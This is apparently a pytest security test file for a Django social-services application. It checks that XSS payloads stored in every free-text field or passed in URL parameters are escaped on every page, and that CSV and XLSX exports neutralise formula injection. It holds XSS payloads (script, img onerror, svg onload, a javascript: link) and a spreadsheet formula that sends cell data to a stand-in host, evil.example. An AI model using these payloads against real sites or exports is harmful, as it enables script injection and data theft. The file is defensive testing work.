"""Stored and reflected XSS (ASVS 5.3.3): a script typed into any free-text field, or into any
parameter of a URL, shows as text on every page, never as markup.

Every CharField and TextField without choices of every model of the project is found by
`_meta`, so a new field is swept without anyone listing it; every row of the world is
poisoned, then every page of the URL table is read as four roles, plus the filtered lists,
the charts, the Django admin and the forms sent back with errors."""

import csv
import io
import itertools
from datetime import timedelta
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from openpyxl import load_workbook

from empowerment.models import RoleRecord
from partners.models import Agreement, CommitteeMembership, Contact, ReferralEvent, Service
from residents.imports import example_csv
from residents.models import Consent
from tests.factories import ConsentFactory, ResidentFactory, ThemeFactory
from tests.security.actions import ACTIONS, sign_in
from tests.security.pages import is_html, read_page
from tests.url_table import EXPECTATIONS

SCRIPT = '<script>alert("xss")</script>'
IMAGE = "<img src=x onerror=alert(1)>"
SVG = "<svg onload=alert(1)>"
# Quotes first, to break out of an attribute; then an element, then an event handler.
PAYLOADS = [f"\"'>{SCRIPT}{IMAGE}", f"\"'>{SCRIPT}", SVG]
MARKERS = [SCRIPT, IMAGE, SVG]
# Stored values that are no text a person writes or reads.
# Made by the app, never typed: a one-time submission token only matches its own pattern.
NOT_TEXT = {"password", "session_token", "token", "token_hash"}
SAFE_DOWNLOADS = (
    "text/csv",
    "application/json",
    # The installable app's manifest and service worker (offline/pwa_views.py): their content
    # is the app's own configuration, nothing stored or typed (tests/offline/test_pwa.py).
    "application/manifest+json",
    "text/javascript",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    # The research data set (evaluation/package.py): an archive of CSV files, never rendered.
    "application/zip",
)
READERS = ["intervenant_site", "coordination", "direction", "admin"]
# Stored text that every reader sees somewhere: proof that the payloads reach the pages.
EVERYONE_SEES = {
    ("residents.Household", "label"),
    ("residents.Resident", "first_name"),
    ("interventions.Intervention", "summary"),
    ("partners.Organisation", "name"),
    ("accounts.User", "first_name"),
}


def project_models() -> list[type[models.Model]]:
    root = Path(settings.BASE_DIR)
    return [
        model
        for config in apps.get_app_configs()
        if Path(config.path).is_relative_to(root) and ".venv" not in Path(config.path).parts
        for model in config.get_models()
    ]


def free_text_fields(model) -> list[models.Field]:
    return [
        field
        for field in model._meta.get_fields()
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and field.name not in NOT_TEXT
    ]


def payload_for(field: models.Field, number: int) -> str:
    """The longest payload the field holds, made unique by a number at its end."""
    suffix = f" {number}"
    for payload in PAYLOADS:
        if field.max_length is None or len(payload) + len(suffix) <= field.max_length:
            return payload + suffix
    raise AssertionError(f"{field} is too short for any payload")


@pytest.fixture
def poisoned(world):
    """The world, with a row of every model that holds free text and a payload in every
    free-text field of every row; returns the world and every value stored."""
    users, objects = world
    _complete(users, objects)
    numbers = itertools.count(1)
    stored = {}
    for model in project_models():
        fields = free_text_fields(model)
        for row in model._base_manager.order_by("pk") if fields else []:
            for field in fields:
                value = payload_for(field, next(numbers))
                setattr(row, field.attname, value)
                stored[(model._meta.label, field.name, row.pk)] = value
            # save(), not update(): the audit trail records the payload too, as after an edit.
            row.save(update_fields=[field.attname for field in fields])
    for user in users.values():
        user.refresh_from_db()
    for obj in objects.values():
        obj.refresh_from_db()
    return users, objects, stored


def _complete(users, objects):
    """Give the world what shows the rest of its text: a share consent and a guardian's,
    themes, a named participant and a follow-up, the partner's services, contacts, agreement,
    a committee member, a referral step."""
    household, resident = objects["household"], objects["resident"]
    intervention, referral = objects["intervention"], objects["referral"]
    organisation, author = objects["organisation"], users["intervenant_site"]
    theme = ThemeFactory(name="Logement")
    child = ResidentFactory(
        household=household, date_of_birth=timezone.localdate() - timedelta(days=3000)
    )
    ConsentFactory(resident=child, obtained_by=author)
    ConsentFactory(
        resident=resident,
        purpose=Consent.Purpose.SHARE,
        partner_name=organisation.name,
        obtained_by=author,
    )
    intervention.themes.add(theme)
    intervention.participations.create(resident=resident)
    intervention.co_intervenants.add(users["coordination"])
    intervention.partners_present.add(organisation)
    intervention.decisions = "Rencontre du comité le mois prochain."
    intervention.restricted_note = "Note restreinte."
    intervention.follow_up_by = author
    intervention.save()
    objects["activity"].registered.add(resident)
    referral.themes.add(theme)
    referral.interventions.add(intervention)
    service = Service.objects.create(organisation=organisation, name="Halte-garderie")
    referral.service = service
    referral.save()
    Contact.objects.create(organisation=organisation, name="Sophie Tremblay")
    Agreement.objects.create(
        organisation=organisation,
        kind=Agreement.Kind.ROOM_LOAN,
        starts_on=timezone.localdate() - timedelta(days=30),
        ends_on=timezone.localdate() + timedelta(days=20),
    )
    organisation.sites.add(household.site)
    CommitteeMembership.objects.create(
        committee=organisation, resident=resident, since=timezone.localdate()
    )
    ReferralEvent.objects.create(referral=referral, new_status="draft", by=author, note="Créée.")
    RoleRecord.objects.create(
        resident=resident,
        role=RoleRecord.Role.VOLUNTEER,
        since=timezone.localdate(),
        note="Fête des voisins",
        created_by=author,
    )


def findings(response, url: str) -> list[str]:
    """What in a response would run a stored or reflected script."""
    content_type = response.get("Content-Type", "")
    if not is_html(response):
        if response.status_code in {301, 302, 304} or not response.getvalue():
            return []
        problems = []
        if not content_type.startswith(SAFE_DOWNLOADS):
            problems.append(f"{url}: served as {content_type!r}")
        if response.get("X-Content-Type-Options") != "nosniff":
            problems.append(f"{url}: a download without nosniff")
        return problems
    text = response.content.decode()
    found = [f"{url}: raw {marker}" for marker in MARKERS if marker in text]
    found += [f"{url}: {hook}" for hook in read_page(response, url).script_hooks()]
    return found


def _url(route, target, objects):
    return reverse(route, args=[objects[target].pk] if target else [])


def _filtered_pages(users, objects) -> list[str]:
    """Pages that show more of the world with a parameter: lists filtered on a person, a
    partner or a site, forms started from a record, the annual report, the exports."""
    household, resident = objects["household"], objects["resident"]
    intervention, organisation = objects["intervention"], objects["organisation"]
    site, author = household.site, users["intervenant_site"]
    lists = reverse("interventions:intervention_list")
    return [
        f"{reverse('residents:household_list')}?q={household.label[:20]}",
        f"{reverse('residents:household_list')}?site={site.pk}&status=active",
        f"{lists}?resident={resident.pk}",
        f"{lists}?activity={objects['activity'].pk}&intervenant={author.pk}",
        f"{lists}?site={site.pk}&type={intervention.type_id}&theme={intervention.themes.get().pk}",
        f"{reverse('interventions:intervention_create')}?from={intervention.pk}",
        f"{reverse('interventions:quick_log')}?type={intervention.type_id}",
        f"{reverse('partners:referral_create')}?resident={resident.pk}",
        f"{reverse('partners:referral_create')}?household={household.pk}"
        f"&organisation={organisation.pk}",
        f"{reverse('partners:referral_queue')}?organisation={organisation.pk}"
        f"&site={site.pk}&responsible={author.pk}",
        f"{reverse('partners:organisation_list')}?site={site.pk}",
        f"{reverse('partners:network')}?site={site.pk}",
        f"{reverse('dashboard')}?site={site.pk}",
        f"{reverse('privacy:read_log')}?actor={author.pk}",
        f"{reverse('interventions:intervention_export')}?format=csv",
        f"{reverse('interventions:intervention_export')}?format=xlsx",
        f"{reverse('partners:referral_export')}?format=xlsx",
        f"{reverse('annual_report')}?format=xlsx",
    ]


def _admin_pages() -> list[str]:
    """The changelist and the first row's change page of every model in the admin."""
    pages = []
    for model in admin.site._registry:
        info = (model._meta.app_label, model._meta.model_name)
        pages.append(reverse("admin:{}_{}_changelist".format(*info)))
        first = model._base_manager.order_by("pk").first()
        if first is not None:
            pages.append(reverse("admin:{}_{}_change".format(*info), args=[first.pk]))
    return pages


def test_every_model_with_free_text_has_a_poisoned_row(poisoned):
    *_, stored = poisoned
    swept = {label for label, _field, _pk in stored}
    with_text = {model._meta.label for model in project_models() if free_text_fields(model)}
    assert with_text - swept == set(), "Add a row of these models to the poisoned world"


@pytest.mark.parametrize("role", READERS)
def test_stored_scripts_show_as_text_on_every_page(poisoned, role):
    users, objects, stored = poisoned
    client = Client()
    sign_in(client, users, role)
    urls = [
        _url(route, target, objects)
        for route, (method, target, _) in sorted(EXPECTATIONS.items())
        if method == "get"
    ]
    urls += _filtered_pages(users, objects)
    if role == "admin":
        urls += _admin_pages()
    problems, pages = [], []
    for url in urls:
        response = client.get(url)
        problems += findings(response, url)
        if is_html(response) and response.status_code == 200:
            pages.append(response.content.decode())
    assert not problems, "\n".join(problems)
    # The sweep means something only if the payloads are on the pages, escaped.
    shown = {
        (label, name)
        for (label, name, _pk), value in stored.items()
        if any(escape(value) in page for page in pages)
    }
    assert shown >= EVERYONE_SEES


def test_the_sweep_would_see_a_script_that_runs():
    page = HttpResponse(
        f'<p>{PAYLOADS[0]}</p><a href="javascript:go()">x</a><b onclick="go()">y</b>'
    )
    # Both raw markers, the parsed <script> and onerror, the javascript: link, the onclick.
    assert len(findings(page, "/")) == 6
    assert findings(HttpResponse(f"<p>{escape(PAYLOADS[0])}</p>"), "/") == []


@pytest.mark.parametrize("role", ["anonymous", *READERS])
def test_a_script_in_any_url_parameter_shows_as_text(poisoned, role):
    """Reflected XSS: every GET form field of every page, plus `next` and `page`, carries
    the payload."""
    users, objects, _ = poisoned
    client = Client()
    sign_in(client, users, role)
    payload = PAYLOADS[0]
    problems = []
    for route, (method, target, _) in sorted(EXPECTATIONS.items()):
        if method != "get":
            continue
        url = _url(route, target, objects)
        page = client.get(url)
        names = {"next", "page", "q", "from", "type", "day", "year", "format", "table"}
        if is_html(page):
            for form in read_page(page, url).forms:
                if form.method == "get":
                    names |= form.names | {name for name, _ in form.fields}
        response = client.get(url, dict.fromkeys(names, payload))
        problems += findings(response, url)
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize(
    "action", [action for action in ACTIONS if action.page == ""], ids=lambda action: action.id
)
def test_a_form_sent_back_with_scripts_in_every_field_shows_them_as_text(poisoned, action):
    users, objects, _ = poisoned
    client = Client()
    sign_in(client, users, action.role)
    form = action.form(client, objects)
    keep = {"csrfmiddlewaretoken"}
    payloads = {
        name: PAYLOADS[0]
        for name in form.names | {name for name, _ in form.fields}
        if name not in keep and not name.endswith("_FORMS")
    }
    url = action.url(objects)
    response = client.post(url, form.data(payloads))
    assert findings(response, url) == []


def test_an_imported_spreadsheet_with_scripts_shows_them_as_text_in_the_preview(poisoned):
    users, objects, _ = poisoned
    client = Client()
    sign_in(client, users, "coordination")
    rows = list(csv.reader(io.StringIO(example_csv(site_name=objects["household"].site.name))))
    poisoned_rows = [rows[0]] + [
        [cell if column == 0 else PAYLOADS[0] for column, cell in enumerate(row)]
        for row in rows[1:]
    ]
    content = io.StringIO()
    csv.writer(content).writerows(poisoned_rows)
    upload = SimpleUploadedFile("menages.csv", content.getvalue().encode(), "text/csv")
    url = reverse("residents:household_import")

    response = client.post(url, {"file": upload})

    assert escape(PAYLOADS[0]) in response.content.decode()
    assert findings(response, url) == []


def test_a_partner_website_cannot_be_a_script_link(world):
    users, objects = world
    client = Client()
    sign_in(client, users, "coordination")
    action = next(action for action in ACTIONS if action.id == "organisation_update")
    data = action.data(client, users, objects, website="javascript:alert(1)")

    response = client.post(action.url(objects), data)

    assert response.status_code == 400
    objects["organisation"].refresh_from_db()
    assert objects["organisation"].website == ""


# Spreadsheet formula injection (CWE-1236): a name that starts with = + - @ becomes a formula
# when the export is opened in Excel or LibreOffice.
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquer")'


@pytest.fixture
def names_that_are_formulas(world):
    """A partner (named by coordination) and an intervention type (by an administrator)."""
    users, objects = world
    for obj in (objects["organisation"], objects["intervention"].type):
        obj.name = FORMULA
        obj.save(update_fields=["name"])
    return users, objects


def _formulas(response) -> list[str]:
    """The cells a spreadsheet would compute: in a CSV, text starting with = + - @ (a
    negative number is no formula); in an XLSX, the cells stored as formulas."""
    if response["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")))
        return [
            cell
            for row in rows
            for cell in row
            if cell[:1] in {"=", "+", "-", "@"} and not cell.lstrip("+-").isdigit()
        ]
    workbook = load_workbook(io.BytesIO(response.getvalue()))
    return [
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("route", ["partners:referral_export", "interventions:intervention_export"])
def test_exports_neutralise_a_name_that_would_be_a_formula(names_that_are_formulas, route, fmt):
    users, _ = names_that_are_formulas
    client = Client()
    sign_in(client, users, "coordination")

    response = client.get(reverse(route), {"format": fmt})

    assert response.status_code == 200
    assert _formulas(response) == []
